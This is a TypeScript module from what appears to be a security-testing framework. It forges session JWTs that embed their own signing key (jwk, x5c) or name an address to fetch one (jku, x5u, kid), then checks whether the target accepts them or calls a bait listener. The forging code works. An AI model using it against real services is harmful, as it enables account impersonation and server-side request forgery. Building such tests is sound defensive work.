import { generateKeyPairSync, type KeyObject, sign } from 'node:crypto'
import { type Bait, defineAttack, type Judgement } from '../../src/contract/attack.ts'
import type { Json } from '../../src/contract/json.ts'
import { type ForgedJwts, type Forgery, type Holder, judgeForgedJwts, observeForgedJwts } from '../kit/forged-jwt.ts'
import { fail } from '../kit/judging.ts'
import { encodeJson, joinJwt, payloadFor } from '../kit/jwt.ts'
import { signedWithSecret } from '../kit/sign.ts'

type Observation = ForgedJwts & { baitCalls: string[] }

const SECRET = Buffer.from('a-secret-of-the-attacker-and-32-b')

export default defineAttack<Observation>({
  meta: {
    id: 'ft-jwt-key-source',
    family: 'forged-token',
    title: 'Session JWT that brings its own key',
    about:
      "Signs a rewritten session token with an own key and says in its header where that key is: in the token itself, or at an address of the attacker's. Success means anybody is anybody; a mere visit to the address means the backend can be sent anywhere.",
    severity: 'critical',
    cwe: [347, 918],
    asvs: ['9.1.3', '1.3.6'],
    api2023: ['API2', 'API7'],
    has: 'an own session token; the victim is named by account id, which is no secret',
    needs: ['oneTap', 'me'],
    notices: ['jwt-signature=jwt-header-key', 'jwt-signature=unverified'],
  },

  async observe(lab) {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const jwk = {
      ...(publicKey.export({ format: 'jwk' }) as { [name: string]: Json }),
      kid: 'attacker',
      alg: 'ES256',
      use: 'sig',
    }
    const bait = await lab.bait(JSON.stringify({ keys: [jwk] }))
    const seen = await observeForgedJwts(lab, (own, victim) => forgeries(own, victim, privateKey, jwk, bait))
    if ('notApplicable' in seen) return seen
    return { ...seen, baitCalls: [...bait.calls()] }
  },

  judge(observation): Judgement {
    const judgement = judgeForgedJwts(observation, 'Session tokens that bring their own key')
    const [call] = observation.baitCalls
    if (judgement.outcome === 'fail' || call === undefined) return judgement
    return fail(
      'The target fetched a key from an address that a session token named.',
      'outside-call',
      `The attacker's listener was called: ${call}.`,
      {
        exchanges: observation.forged.map(({ exchange }) => exchange),
        expected: 'no request to an address from a token',
        observed: `${observation.baitCalls.length} requests`,
      },
    )
  },
})

function forgeries(own: Holder, victim: Holder, key: KeyObject, jwk: { [name: string]: Json }, bait: Bait): Forgery[] {
  const payload = payloadFor(own.jwt, own.account, victim.jwt, victim.account)
  const asymmetric = (header: { [name: string]: Json }): string => {
    const head = encodeJson({ ...own.jwt.headerJson, alg: 'ES256', kid: 'attacker', ...header })
    const body = encodeJson(payload)
    const signature = sign('sha256', Buffer.from(`${head}.${body}`), { key, dsaEncoding: 'ieee-p1363' })
    return joinJwt(own.jwt, head, body, signature.toString('base64url'))
  }
  const oct = { kty: 'oct', k: SECRET.toString('base64url'), alg: 'HS256' }
  const certificate = Buffer.from(JSON.stringify(jwk)).toString('base64')
  return [
    { name: 'public key in jwk', credential: asymmetric({ jwk }) },
    { name: 'secret in jwk', credential: signedWithSecret(own.jwt, { jwk: oct }, payload, SECRET) },
    { name: 'key in x5c', credential: asymmetric({ x5c: [certificate] }) },
    { name: 'address in jku', credential: asymmetric({ jku: `${bait.url}/jwks.json` }) },
    { name: 'address in x5u', credential: asymmetric({ x5u: `${bait.url}/cert.pem` }) },
    { name: 'address in kid', credential: asymmetric({ kid: `${bait.url}/key.pem` }) },
  ]
}
